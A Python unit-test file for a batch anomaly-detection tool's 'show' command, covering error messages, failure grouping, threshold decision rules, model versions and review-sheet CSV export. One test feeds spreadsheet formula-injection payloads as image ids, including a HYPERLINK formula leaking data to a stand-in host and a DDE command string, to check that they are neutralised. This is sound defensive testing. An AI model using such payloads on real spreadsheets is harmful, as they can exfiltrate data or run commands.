"""`spade-batch show`'s errors, and how failures are grouped by reason, in process.

`show` on a real model and run (fit and score on a local Ray, local and on the S3 test server) is in
tests/integration/reports/test_summary.py.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os

import pytest
from scipy import stats

from spade_batch import cli
from spade_batch.config import Settings
from spade_batch.formats import storage
from spade_batch.formats.card import CalibrationRecord, ModelCard, Thresholds
from spade_batch.formats.images import Preprocessing
from spade_batch.formats.layout import Outputs as RunOutputs
from spade_batch.formats.layout import part_name
from spade_batch.formats.review import normal_images, read_sheet
from spade_batch.formats.score_table import ScoreRow, write_scores
from spade_batch.reports.run_report import read_run_scores
from spade_batch.reports.summary import decision_rules, failure_reason, failures_by_reason, run_summary
from tests.unit.formats.test_versions import publish


def show(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(["show", *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_show_on_a_folder_with_neither_is_a_one_line_error(tmp_path, capsys):
    code, out, err = show(capsys, str(tmp_path))
    assert code == 2 and out == ""
    assert err == (
        f"spade-batch show: error: {tmp_path} holds neither a model (spade.json) nor a finished run (run.json): "
        "give a MODEL_URI written by fit or an OUT_URI written by score (evaluate's run is OUT/scores)\n"
    )


def test_show_takes_only_storage_settings(capsys):
    code, _, err = show(capsys, "somewhere", "--k", "3")
    assert code == 2 and "show does not take --k: a method setting" in err


def test_failure_reasons_group_errors_without_uris_or_numbers():
    failures = [
        ("a/1.png", "ImageError: cannot decode s3://b/x/a/1.png: the file is empty (0 bytes). Re-export it."),
        ("b/2.png", "ImageError: cannot decode s3://b/x/b/2.png: the file is empty (0 bytes). Re-export it."),
        ("c.png", "ImageError: cannot decode /d/c.png: image is 10 x 20 = 200 pixels, over the max_pixels setting (100). Downscale"),
    ]
    assert failures_by_reason(failures) == [
        {"reason": "ImageError: cannot decode <image>: the file is empty (N bytes)", "count": 2, "example": "a/1.png"},
        {"reason": "ImageError: cannot decode <image>: image is N x N = N pixels, over the max_pixels setting (N)",
         "count": 1, "example": "c.png"},
    ]
    assert failure_reason(os.path.join("x", "y.png"), "name rejected: x/y.png collides") == "name rejected: <image> collides"


def test_show_and_the_run_report_group_the_same_failures_identically(tmp_path):
    root = str(tmp_path / "run")
    outputs = RunOutputs(root)
    big = "ImageError: cannot decode {}: image is {} pixels, over the max_pixels setting (100). Downscale it"
    failures = [  # (id, uri, error), over two part files
        [("a/1.png", "s3://b/x/a/1.png", "ImageError: cannot decode s3://b/x/a/1.png: the file is empty (0 bytes). Re-export it."),
         ("b/2.png", "s3://b/x/b/2.png", big.format("s3://b/x/b/2.png", "10 x 20 = 200")),
         ("s3://b/x/c?.png", "s3://b/x/c?.png", "name rejected: s3://b/x/c?.png has a '?'")],
        [("d/3.png", "s3://b/x/d/3.png", big.format("x/d/3.png", "30 x 40 = 1200")),  # the URI without its scheme
         ("e/4.png", "s3://b/x/e/4.png", "ImageError: cannot decode s3://b/x/e/4.png: the file is empty (0 bytes). Re-export it."),
         ("f/5.png", "s3://b/x/f/5.png", "OSError: read failed\nTraceback (most recent call last): ...")],
    ]
    for part in failures:
        rows = [ScoreRow(id=image_id, uri=uri, error=error) for image_id, uri, error in part]
        write_scores(storage.join(outputs.scores, part_name([row.id for row in rows])), rows)
    run = {"model_uri": "m", "images": 6, "scored": 0, "failed": 6, "retryable": 0, "resumed": 0, "anomalous": None,
           "thresholds": {"image": None, "pixel": None}, "mask_kind": "binary", "seconds": 1.0, "images_per_second": 6.0,
           "settings": {}, "versions": {}}
    storage.write_text(outputs.run_json, json.dumps(run))

    shown = [(f["reason"], f["count"], f["example"]) for f in run_summary(root, top=0)["failures"]]
    reported = [(group.reason, group.count, group.examples[0]) for group in read_run_scores(root, None).failures]

    assert shown == reported
    assert [(reason, count) for reason, count, _ in shown] == [
        ("ImageError: cannot decode <image>: image is N x N = N pixels, over the max_pixels setting (N)", 2),
        ("ImageError: cannot decode <image>: the file is empty (N bytes)", 2),
        ("OSError: read failed", 1),
        ("name rejected: <image> has a '?'", 1),
    ]


def test_decision_rules_say_how_thresholds_were_set_and_what_they_promise():
    card = ModelCard(settings=Settings().method, preprocessing=Preprocessing(), weights_sha256="sha256:0", layers=[], global_dim=1,
                     train_count=600, train_manifest_sha256="0",
                     thresholds=Thresholds(image=2.5, pixel=1.25, min_region=16, gate_masks=True),
                     calibration=CalibrationRecord(count=600, images="leave_one_out", image_fpr=0.01, pixel_rule="region"))
    rules = decision_rules(card)
    assert rules["calibration"] == "600 normal images (leave-one-out)"
    # np.quantile "higher" at 0.99 of 600 is the 6th largest score: FPR Beta(6, 595), mean 6/601.
    assert "the 6th largest of the 600 calibration scores" in rules["image rule"]
    low, high = stats.beta(6, 595).ppf([0.05, 0.95])
    assert rules["expected false alarms"].startswith(f"about {6000 / 601:.3g} per 1,000 normal images (90% range {1000 * low:.3g} - {1000 * high:.3g}")
    assert "support" not in rules["expected false alarms"] and "suspect training images" not in rules
    assert "1.0% of them show a flagged region of 16 pixels" in rules["pixel rule"] and "empty for images not flagged" in rules["masks"]
    uncalibrated = dataclasses.replace(card, thresholds=Thresholds(), calibration=CalibrationRecord())
    assert list(decision_rules(uncalibrated)) == ["calibration"]


def test_with_two_calibration_images_show_promises_what_their_largest_score_gives_inside_its_own_range():
    """Found on main (issue 27, item 4): 'about 10 per 1,000 ... (90% range 25.3 - 776)' and 'the 99.0% quantile'."""
    card = ModelCard(settings=Settings().method, preprocessing=Preprocessing(), weights_sha256="sha256:0", layers=[], global_dim=1,
                     train_count=3, train_manifest_sha256="0", thresholds=Thresholds(image=2.5, pixel=1.25),
                     calibration=CalibrationRecord(count=2, images="leave_one_out", image_fpr=0.01, image_scores=[1.0, 2.5]))
    rules = decision_rules(card)
    assert rules["image rule"] == "anomalous when the image score > 2.5, the largest calibration score"
    assert rules["expected false alarms"].startswith("about 333 per 1,000 normal images (90% range 25.3 - 776;")  # Beta(1, 2)
    assert "the target 10 per 1,000 (image_fpr) needs at least 100 images: 2 support about 333 per 1,000" in rules["expected false alarms"]


def test_decision_rules_state_a_fitted_estimators_promise_and_the_suspects():
    calibration = CalibrationRecord(count=200, images="leave_one_out", image_fpr=0.01, image_estimator="pot", fpr_law=[3.0, 297.0],
                                    suspects=[{"id": "odd.png", "score": 91.5}], suspects_left_out=True)
    card = ModelCard(settings=Settings().method, preprocessing=Preprocessing(), weights_sha256="sha256:0", layers=[], global_dim=1,
                     train_count=200, train_manifest_sha256="0", thresholds=Thresholds(image=7.5, pixel=1.25), calibration=calibration)
    rules = decision_rules(card)
    assert "a generalised Pareto tail fitted to the highest 20 of their 200 scores" in rules["image rule"]
    low, high = stats.beta(3, 297).ppf([0.05, 0.95])
    assert rules["expected false alarms"].startswith(f"about 10 per 1,000 normal images (90% range {1000 * low:.3g} - {1000 * high:.3g}; the pot fit")
    assert rules["suspect training images"] == "1, scoring far above the other calibration images: odd.png (91.5); left out of the gallery and calibration"


@pytest.mark.parametrize(("changes", "words"), [
    ({"gate_masks": False}, "flagged pixels of every image"),
    ({"gate_masks": True}, "empty for images not flagged anomalous"),
    ({"gate_masks": True, "region": 3.5}, "every region on images flagged anomalous; on others, the regions with their own evidence (4 pixels above 3.5)"),
    ({"gate_masks": True, "gate": 2.0}, "every region on images scoring above 2, empty on others"),
    ({"gate_masks": False, "region": 3.5}, "on every image, the regions with their own evidence (4 pixels above 3.5)"),
])
def test_show_says_which_regions_masks_show(changes, words):
    card = ModelCard(settings=Settings().method, preprocessing=Preprocessing(), weights_sha256="sha256:0", layers=[], global_dim=1,
                     train_count=60, train_manifest_sha256="0", thresholds=Thresholds(image=2.5, pixel=1.25, min_region=4, **changes),
                     calibration=CalibrationRecord(count=60, images="leave_one_out", image_fpr=0.01, pixel_rule="mean_3sigma"))
    assert decision_rules(card)["masks"] == words + ", regions under 4 pixels (at the working size) dropped"


def test_show_lists_the_versions_and_model_current_makes_an_older_one_current(tmp_path, capsys):
    root = str(tmp_path)
    for number, parent in ((1, None), (2, 1), (3, 2)):
        publish(root, number, parent)
    summary = json.loads(show(capsys, root, "--json")[1])
    assert summary["version"] == 3 and [row["number"] for row in summary["versions"]] == [1, 2, 3]
    assert [(row["parent"], row["images_added"], row["current"]) for row in summary["versions"]] == [(None, 5, False), (1, 5, False), (2, 5, True)]

    assert cli.main(["model", "current", root, "2"]) == 0
    assert capsys.readouterr().out.startswith(f"version 2 of {root} is current")
    code, out, _ = show(capsys, root)
    assert code == 0 and f"{root} (version 2, the current one)" in out
    rows = out[out.index("versions (current: *)"):].splitlines()[2:]
    assert [row.split()[:2] for row in rows] == [["1", "-"], ["*", "2"], ["3", "2"]]
    assert cli.main(["model", "current", root, "9"]) == 2
    assert "has no version 9; its versions are 1, 2, 3" in capsys.readouterr().err


def test_the_review_sheet_holds_the_top_flagged_images_and_the_verdicts_are_counted(tmp_path, capsys):
    root = str(tmp_path / "run")
    outputs = RunOutputs(root)
    scores = {"a.png": 9.0, "b.png": 8.0, "c.png": 7.0, "d.png": 1.0, "e.png": 0.5}  # flagged above 5
    rows = [ScoreRow(id=i, uri=f"/night/{i}", image_score=s, is_anomalous=s > 5, mask_uri=f"{root}/masks/{i}") for i, s in scores.items()]
    write_scores(storage.join(outputs.scores, part_name([row.id for row in rows])), rows)
    run = {"model_uri": "m", "images": 5, "scored": 5, "failed": 0, "retryable": 0, "resumed": 0, "anomalous": 3,
           "thresholds": {"image": 5.0, "pixel": 1.0}, "mask_kind": "binary", "seconds": 1.0, "images_per_second": 5.0,
           "settings": {}, "versions": {}}
    storage.write_text(outputs.run_json, json.dumps(run))

    code, out, _ = show(capsys, root, "--top", "4", "--format", "csv")
    assert code == 0 and out.splitlines() == ["id,uri,image_score,mask_uri,verdict",
                                              *(f"{i}.png,/night/{i}.png,{scores[i + '.png']},{root}/masks/{i}.png," for i in "abc")]
    filled = out.splitlines()
    filled[1], filled[2] = filled[1] + "normal", filled[2] + "defect"  # c.png is not reviewed
    (tmp_path / "sheet.csv").write_text("\n".join(filled) + "\n")
    code, out, _ = show(capsys, root, "--verdicts", str(tmp_path / "sheet.csv"), "--json")
    assert code == 0 and json.loads(out) == {"kind": "verdicts", "uri": root, "flagged": 3, "reviewed": 2, "confirmed_defects": 1,
                                             "false_alarms": 1, "precision": 0.5, "reviewed_not_flagged": 0}
    code, out, _ = show(capsys, root, "--verdicts", str(tmp_path / "sheet.csv"))
    assert "precision among reviewed  50.0%" in out

    (tmp_path / "other.csv").write_text("id,uri,verdict\nz.png,/other/z.png,normal\n")
    code, _, err = show(capsys, root, "--verdicts", str(tmp_path / "other.csv"))
    assert code == 2 and "review sheet line 2: z.png is not an image of the run" in err
    publish(str(tmp_path / "model"), 1, None)
    code, _, err = show(capsys, str(tmp_path / "model"), "--format", "csv")
    assert code == 2 and "is a model: a review sheet (--format csv) is written for a run's OUT_URI" in err


def test_a_sheet_of_formula_like_ids_opens_as_text_and_reads_back_to_the_same_ids(tmp_path, capsys):
    """Ids a spreadsheet would run as formulas (OWASP CSV injection) get a single quote before them in the sheet; the
    verdicts read back name the run's own ids, whether the spreadsheet kept the quote or dropped it on saving."""
    root = str(tmp_path / "run")
    outputs = RunOutputs(root)
    ids = ['=HYPERLINK("http://x.example/?leak="&A1,"open").png', "+cmd|' -C calc'!A0.png", "@SUM(1+1).png", "-2+3.png",
           "\tTAB.png", "'=quoted.png", "plain.png"]
    rows = [ScoreRow(id=i, uri=f"/night/{i}", image_score=10.0 - n, is_anomalous=True, mask_uri=f"{root}/masks/{i}")
            for n, i in enumerate(ids)]
    write_scores(storage.join(outputs.scores, part_name([row.id for row in rows])), rows)
    run = {"model_uri": "m", "images": len(ids), "scored": len(ids), "failed": 0, "retryable": 0, "resumed": 0, "anomalous": len(ids),
           "thresholds": {"image": 1.0, "pixel": 1.0}, "mask_kind": "binary", "seconds": 1.0, "images_per_second": 5.0,
           "settings": {}, "versions": {}}
    storage.write_text(outputs.run_json, json.dumps(run))

    code, out, _ = show(capsys, root, "--top", str(len(ids)), "--format", "csv")

    cells = [row for row in csv.reader(io.StringIO(out))][1:]
    assert code == 0 and [row[0] for row in cells] == [("'" + i if i != "plain.png" else i) for i in ids]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row), "no cell a spreadsheet evaluates"
    for kept_quote in (True, False):  # LibreOffice keeps the quote as text; a spreadsheet that reads it as the text marker drops it
        lines = [",".join([*(_csv_cell(cell if kept_quote or cell.startswith("''") else cell.removeprefix("'")) for cell in row[:4]),
                           "normal" if n % 2 else "defect"]) for n, row in enumerate(cells)]
        (tmp_path / "sheet.csv").write_text("id,uri,image_score,mask_uri,verdict\n" + "\n".join(lines) + "\n")
        code, out, err = show(capsys, root, "--verdicts", str(tmp_path / "sheet.csv"), "--json")
        assert code == 0, err
        assert json.loads(out)["reviewed"] == len(ids) and json.loads(out)["false_alarms"] == len(ids) // 2
        marked = normal_images(read_sheet(str(tmp_path / "sheet.csv")))
        assert sorted(marked.uris) == sorted(f"/night/{i}" for n, i in enumerate(ids) if n % 2)


def _csv_cell(text: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow([text])
    return out.getvalue()
